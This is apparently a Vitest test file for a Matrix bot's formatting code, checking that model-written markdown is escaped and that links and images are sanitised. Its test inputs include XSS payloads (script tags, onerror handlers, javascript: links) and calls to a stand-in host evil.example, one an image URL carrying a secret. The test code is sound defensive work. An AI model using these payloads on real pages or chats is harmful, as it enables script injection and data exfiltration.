import { describe, expect, it } from "vitest";
import type { OutgoingMessage } from "../../src/agents/ports.ts";
import {
  editContent,
  escapeHtml,
  markdownToHtml,
  messageContent,
} from "../../src/matrix/formatting.ts";
import type { EventId, MatrixUserId } from "../../src/shared/ids.ts";

const ROOT = "$thread-root" as EventId;
const LATEST = "$latest-in-thread" as EventId;
const QUESTION = "$question" as EventId;
const ORIGINAL = "$original-answer" as EventId;
const ALICE = "@alice:acme.test" as MatrixUserId;

describe("markdownToHtml", () => {
  it("renders emphasis and inline code", () => {
    expect(markdownToHtml("**bold** and `code`")).toBe(
      "<p><strong>bold</strong> and <code>code</code></p>",
    );
  });

  it("renders fenced code blocks with the language and escapes their content", () => {
    expect(markdownToHtml("```ts\nconst ok = 1 < 2 && 3 > 2;\n```")).toBe(
      '<pre><code class="language-ts">const ok = 1 &lt; 2 &amp;&amp; 3 &gt; 2;\n</code></pre>',
    );
  });

  it("renders bullet and numbered lists", () => {
    const html = markdownToHtml("- one\n- two\n\n1. first\n2. second");
    expect(html).toBe(
      "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol>\n<li>first</li>\n<li>second</li>\n</ol>",
    );
  });

  it("keeps single line breaks, as chat users expect", () => {
    expect(markdownToHtml("line one\nline two")).toBe("<p>line one<br>line two</p>");
  });

  it("sends hostile structure (thousands of list levels, marker runs) as escaped plain text", () => {
    const deepList = Array.from({ length: 3000 }, (_, i) => `${"  ".repeat(i)}- <b>x</b>`).join(
      "\n",
    );
    const html = markdownToHtml(deepList);
    expect(html).not.toContain("<ul>");
    expect(html).toContain("- &lt;b&gt;x&lt;/b&gt;<br />");
    expect(markdownToHtml(`${"*".repeat(200)}x${"*".repeat(200)}`)).toBe(
      `${"*".repeat(200)}x${"*".repeat(200)}`,
    );
    // Ordinary nesting and emphasis are still markdown.
    expect(markdownToHtml("> quoted\n\n- a\n  - b")).toContain("<blockquote>");
    expect(markdownToHtml("**bold**")).toBe("<p><strong>bold</strong></p>");
  });

  it("escapes special characters in plain text", () => {
    expect(markdownToHtml("a & b < c")).toBe("<p>a &amp; b &lt; c</p>");
  });

  describe("raw HTML from the model is escaped, never passed through", () => {
    it("a block-level img with an event handler", () => {
      const html = markdownToHtml("<img src=x onerror=alert(1)>");
      expect(html).toBe("&lt;img src=x onerror=alert(1)&gt;");
      expect(html).not.toMatch(/<img/i);
    });

    it("an inline script tag", () => {
      const html = markdownToHtml("hello <script>alert(1)</script> world");
      expect(html).toBe("<p>hello &lt;script&gt;alert(1)&lt;/script&gt; world</p>");
      expect(html).not.toMatch(/<script/i);
    });

    it("a block-level script tag", () => {
      const html = markdownToHtml("<script>\nfetch('https://evil.example')\n</script>");
      expect(html).not.toMatch(/<script/i);
      expect(html).toContain("&lt;script&gt;");
    });

    it("an element with attributes and an HTML comment", () => {
      const html = markdownToHtml('<div onclick="steal()">hi</div>\n\n<!-- hidden -->');
      expect(html).not.toMatch(/<div|<!--/i);
      expect(html).toContain("&lt;div onclick=&quot;steal()&quot;&gt;hi&lt;/div&gt;");
      expect(html).toContain("&lt;!-- hidden --&gt;");
    });

    it("HTML inside inline code stays text", () => {
      expect(markdownToHtml("use `<b>` for bold")).toBe(
        "<p>use <code>&lt;b&gt;</code> for bold</p>",
      );
    });
  });
});

describe("escapeHtml", () => {
  it("escapes the five HTML-significant characters", () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
      "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;",
    );
  });
});

function outgoing(overrides: Partial<OutgoingMessage> = {}): OutgoingMessage {
  return { msgtype: "m.text", body: "The answer is 4.", ...overrides };
}

describe("messageContent", () => {
  it("a plain message has an explicit, empty m.mentions and no relation", () => {
    expect(messageContent(outgoing())).toEqual({
      msgtype: "m.text",
      body: "The answer is 4.",
      "m.mentions": {},
    });
  });

  it("adds the HTML rendering as org.matrix.custom.html", () => {
    const content = messageContent(outgoing({ html: "<p>The answer is <b>4</b>.</p>" }));
    expect(content.format).toBe("org.matrix.custom.html");
    expect(content.formatted_body).toBe("<p>The answer is <b>4</b>.</p>");
  });

  it("lists intentional mentions in m.mentions.user_ids", () => {
    expect(messageContent(outgoing({ mentions: [ALICE] }))["m.mentions"]).toEqual({
      user_ids: [ALICE],
    });
    expect(messageContent(outgoing({ mentions: [] }))["m.mentions"]).toEqual({});
  });

  it("a reply outside a thread carries m.in_reply_to only", () => {
    expect(messageContent(outgoing({ replyTo: QUESTION, threadRootId: null }))).toEqual({
      msgtype: "m.text",
      body: "The answer is 4.",
      "m.mentions": {},
      "m.relates_to": { "m.in_reply_to": { event_id: QUESTION } },
    });
  });

  it("a message in a thread is an m.thread relation with the reply fallback (spec shape)", () => {
    expect(
      messageContent(outgoing({ threadRootId: ROOT, replyTo: LATEST }))["m.relates_to"],
    ).toEqual({
      rel_type: "m.thread",
      event_id: ROOT,
      is_falling_back: true,
      "m.in_reply_to": { event_id: LATEST },
    });
  });

  it("a thread message without a reply target falls back to the thread root", () => {
    expect(messageContent(outgoing({ threadRootId: ROOT }))["m.relates_to"]).toEqual({
      rel_type: "m.thread",
      event_id: ROOT,
      is_falling_back: true,
      "m.in_reply_to": { event_id: ROOT },
    });
  });

  it("keeps the notice msgtype", () => {
    const content = messageContent(outgoing({ msgtype: "m.notice", body: "⚠️ model unavailable" }));
    expect(content.msgtype).toBe("m.notice");
    expect(content["m.mentions"]).toEqual({});
  });
});

describe("editContent", () => {
  it("replaces the original with m.new_content and a '* ' fallback (spec shape)", () => {
    const content = editContent(
      ORIGINAL,
      outgoing({ body: "The answer is 42.", html: "<p>The answer is 42.</p>" }),
    );
    expect(content).toEqual({
      msgtype: "m.text",
      body: "* The answer is 42.",
      format: "org.matrix.custom.html",
      formatted_body: "* <p>The answer is 42.</p>",
      "m.new_content": {
        msgtype: "m.text",
        body: "The answer is 42.",
        format: "org.matrix.custom.html",
        formatted_body: "<p>The answer is 42.</p>",
        "m.mentions": {},
      },
      "m.relates_to": { rel_type: "m.replace", event_id: ORIGINAL },
      "m.mentions": {},
    });
  });

  it("an edit never mentions anyone again at the top level", () => {
    const content = editContent(ORIGINAL, outgoing({ mentions: [ALICE] }));
    expect(content["m.mentions"]).toEqual({});
    // The replacement content keeps the full set of mentions, per the spec.
    expect((content["m.new_content"] as Record<string, unknown>)["m.mentions"]).toEqual({
      user_ids: [ALICE],
    });
  });

  it("an edit of a threaded reply keeps only the m.replace relation", () => {
    const content = editContent(ORIGINAL, outgoing({ threadRootId: ROOT, replyTo: LATEST }));
    expect(content["m.relates_to"]).toEqual({ rel_type: "m.replace", event_id: ORIGINAL });
    expect(content["m.new_content"]).not.toHaveProperty("m.relates_to");
  });

  it("an edit without HTML has no format fields", () => {
    const content = editContent(ORIGINAL, outgoing());
    expect(content).not.toHaveProperty("format");
    expect(content).not.toHaveProperty("formatted_body");
    expect(content["m.new_content"]).not.toHaveProperty("formatted_body");
  });

  describe("links and images from the model", () => {
    it("keeps safe links and drops unsafe schemes to their text", () => {
      expect(markdownToHtml("[docs](https://example.org/a?b=1)")).toBe(
        '<p><a href="https://example.org/a?b=1">docs</a></p>',
      );
      expect(markdownToHtml("[click](javascript:alert(1))")).toBe("<p>click</p>");
      expect(markdownToHtml("[x](data:text/html,<script>)")).not.toContain("href");
    });

    it("never embeds an image: a safe one becomes a link, an unsafe one its alt text", () => {
      const html = markdownToHtml("![chart](https://evil.example/collect?q=secret)");
      expect(html).not.toContain("<img");
      expect(html).toBe('<p><a href="https://evil.example/collect?q=secret">chart</a></p>');
      expect(markdownToHtml("![alt](data:image/png;base64,AAAA)")).toBe("<p>alt</p>");
    });
  });
});
